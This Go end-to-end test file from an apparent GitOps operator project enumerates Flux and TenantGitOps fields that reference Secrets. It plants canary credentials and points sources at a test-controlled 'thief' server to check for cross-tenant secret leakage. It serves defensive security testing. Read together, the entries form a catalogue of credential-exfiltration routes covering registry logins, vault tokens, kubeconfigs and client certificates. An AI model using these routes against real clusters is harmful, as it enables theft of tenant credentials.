package secrettheft_test

import (
	"encoding/base64"
	"fmt"
	"testing"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"

	"github.com/cozystack/gitops-operator/e2e/attempts"
	"github.com/cozystack/gitops-operator/e2e/certificates"
	"github.com/cozystack/gitops-operator/e2e/harness"
)

// content is the data of a Secret whose worth is the canary, shaped as a field wants it.
type content func(t *testing.T, canary string, thief *thiefServer) map[string]string

// theft is one field by which a Secret is named.
type theft struct {
	field string
	// kind of the object that has it, and how it names a Secret.
	kind string
	name func(secret string, thief *thiefServer) attempts.Change
	// content of the Secret.
	content content
	// secretType is Opaque where there is none.
	secretType corev1.SecretType
	// public: the Secret holds public keys, for which the artifact must be there first.
	public bool
	// path in the repository, of a Kustomization.
	path string
}

func login(_ *testing.T, canary string, thief *thiefServer) map[string]string {
	return map[string]string{"username": "acme", "password": canary, "ca.crt": thief.authority}
}

func dockerLogin(_ *testing.T, canary string, thief *thiefServer) map[string]string {
	auth := base64.StdEncoding.EncodeToString([]byte("acme:" + canary))
	return map[string]string{corev1.DockerConfigJsonKey: fmt.Sprintf(`{"auths":{%q:{"username":"acme","password":%q,"auth":%q}}}`, thief.encrypted, canary, auth)}
}

func clientCertificate(t *testing.T, canary string, thief *thiefServer) map[string]string {
	t.Helper()
	authority, err := certificates.NewAuthority("acme")
	if err != nil {
		t.Fatal(err)
	}
	pair, err := authority.Issue(certificates.Subject{CommonName: canary})
	if err != nil {
		t.Fatal(err)
	}
	return map[string]string{"tls.crt": string(pair.CertificatePEM), "tls.key": string(pair.KeyPEM), "ca.crt": thief.authority}
}

func proxy(_ *testing.T, canary string, thief *thiefServer) map[string]string {
	return map[string]string{"address": "http://" + thief.plain, "username": "acme", "password": canary}
}

func publicKeys(_ *testing.T, canary string, _ *thiefServer) map[string]string {
	return map[string]string{"author.asc": canary, "cosign.pub": canary, "trusted_root.json": canary}
}

func variable(_ *testing.T, canary string, _ *thiefServer) map[string]string {
	return map[string]string{"password": canary}
}

func vaultToken(_ *testing.T, canary string, _ *thiefServer) map[string]string {
	return map[string]string{"sops.vault-token": canary}
}

func kubeconfig(_ *testing.T, canary string, thief *thiefServer) map[string]string {
	return map[string]string{"value": fmt.Sprintf(`apiVersion: v1
kind: Config
clusters: [{name: a, cluster: {server: "https://%s", certificate-authority-data: %s}}]
users: [{name: a, user: {token: %s}}]
contexts: [{name: a, context: {cluster: a, user: a}}]
current-context: a
`, thief.encrypted, base64.StdEncoding.EncodeToString([]byte(thief.authority)), canary)}
}

// all makes one change of several.
func all(changes ...attempts.Change) attempts.Change {
	return func(o *unstructured.Unstructured) {
		for _, change := range changes {
			change(o)
		}
	}
}

// fromThief has a source fetch from the thief's server, and name a Secret in a field.
func fromThief(scheme, field string, more ...attempts.Change) func(string, *thiefServer) attempts.Change {
	return func(secret string, thief *thiefServer) attempts.Change {
		url := attempts.Field("spec.url", scheme+"://"+thief.encrypted+"/acme/apps")
		return all(append([]attempts.Change{url, attempts.Field("spec."+field, attempts.Named(secret))}, more...)...)
	}
}

// authoritySecret is a Secret that the tenant may name, with the thief's authority.
const authoritySecret = "thief-ca.gitops"

func trusting() attempts.Change {
	return attempts.Field("spec.certSecretRef", attempts.Named(authoritySecret))
}

// inOCI has a TenantGitOps pull from the thief's registry, and name a Secret in a field.
func inOCI(field string) func(string, *thiefServer) attempts.Change {
	return func(secret string, thief *thiefServer) attempts.Change {
		return all(attempts.FromOCI(field, attempts.Named(secret)), func(o *unstructured.Unstructured) {
			source := o.Object["spec"].(map[string]any)["sources"].([]any)[0].(map[string]any)
			source["oci"].(map[string]any)["url"] = "oci://" + thief.encrypted + "/acme/apps"
		})
	}
}

// verifying has a source of the thief's registry verified with what a field names.
func verifying(field string) func(string, *thiefServer) attempts.Change {
	return func(secret string, thief *thiefServer) attempts.Change {
		return all(fromThief("oci", "certSecretRef")(authoritySecret, thief),
			attempts.Field("spec.verify", map[string]any{"provider": "cosign", field: attempts.Named(secret)}))
	}
}

// thefts are the fields that can name a Secret.
var thefts = []theft{
	{field: "GitRepository.secretRef", kind: "GitRepository", name: fromThief("https", "secretRef"), content: login},
	{field: "GitRepository.proxySecretRef", kind: "GitRepository", name: fromThief("https", "proxySecretRef"), content: proxy},
	{field: "GitRepository.verify.secretRef", kind: "GitRepository", content: publicKeys,
		name: func(secret string, thief *thiefServer) attempts.Change {
			return all(fromThief("https", "secretRef")(harness.CASecret, thief), attempts.Field("spec.url", thief.repository),
				attempts.Field("spec.ref", map[string]any{"branch": "main"}),
				attempts.Field("spec.verify", map[string]any{"mode": "HEAD", "secretRef": attempts.Named(secret)}))
		}},
	{field: "OCIRepository.secretRef", kind: "OCIRepository", name: fromThief("oci", "secretRef", trusting()), content: dockerLogin, secretType: corev1.SecretTypeDockerConfigJson},
	{field: "OCIRepository.certSecretRef", kind: "OCIRepository", name: fromThief("oci", "certSecretRef"), content: clientCertificate},
	{field: "OCIRepository.proxySecretRef", kind: "OCIRepository", name: fromThief("oci", "proxySecretRef", trusting()), content: proxy},
	{field: "OCIRepository.verify.secretRef", kind: "OCIRepository", content: publicKeys, public: true, name: verifying("secretRef")},
	{field: "OCIRepository.verify.trustedRootSecretRef", kind: "OCIRepository", content: publicKeys, public: true, name: verifying("trustedRootSecretRef")},
	// The account has the Secret among its imagePullSecrets.
	{field: "OCIRepository.serviceAccountName", kind: "OCIRepository", content: dockerLogin, secretType: corev1.SecretTypeDockerConfigJson,
		name: func(secret string, thief *thiefServer) attempts.Change {
			return all(fromThief("oci", "certSecretRef")(authoritySecret, thief), attempts.Field("spec.serviceAccountName", secret))
		}},
	{field: "Kustomization.decryption.secretRef", kind: "Kustomization", path: "vault", content: vaultToken,
		name: func(secret string, _ *thiefServer) attempts.Change {
			return attempts.Field("spec.decryption", map[string]any{"provider": "sops", "secretRef": attempts.Named(secret)})
		}},
	{field: "Kustomization.kubeConfig.secretRef", kind: "Kustomization", path: "app", content: kubeconfig,
		name: func(secret string, _ *thiefServer) attempts.Change {
			return attempts.Field("spec.kubeConfig", map[string]any{"secretRef": attempts.Named(secret)})
		}},
	{field: "Kustomization.postBuild.substituteFrom[]", kind: "Kustomization", path: "substituted", content: variable,
		name: func(secret string, _ *thiefServer) attempts.Change {
			return attempts.Field("spec.postBuild", map[string]any{"substituteFrom": []any{map[string]any{"kind": "Secret", "name": secret, "optional": false}}})
		}},
	{field: "TenantGitOps.sources[].git.secretRef", kind: "TenantGitOps", content: login,
		name: func(secret string, thief *thiefServer) attempts.Change {
			return all(attempts.InGit("url", "https://"+thief.encrypted+"/acme/apps"), attempts.InGit("secretRef", attempts.Named(secret)))
		}},
	{field: "TenantGitOps.sources[].oci.secretRef", kind: "TenantGitOps", name: inOCI("secretRef"), content: dockerLogin, secretType: corev1.SecretTypeDockerConfigJson},
	{field: "TenantGitOps.sources[].oci.certSecretRef", kind: "TenantGitOps", name: inOCI("certSecretRef"), content: clientCertificate},
	{field: "TenantGitOps.sources[].decryption.secretRef", kind: "TenantGitOps", content: vaultToken,
		name: func(secret string, _ *thiefServer) attempts.Change {
			return attempts.InSource("decryption", map[string]any{"provider": "sops", "secretRef": attempts.Named(secret)})
		}},
	{field: "TenantGitOps.sources[].postBuild.substituteFrom[]", kind: "TenantGitOps", content: variable,
		name: func(secret string, _ *thiefServer) attempts.Change {
			return attempts.InSource("postBuild", map[string]any{"substituteFrom": []any{map[string]any{"kind": "Secret", "name": secret, "optional": false}}})
		}},
}
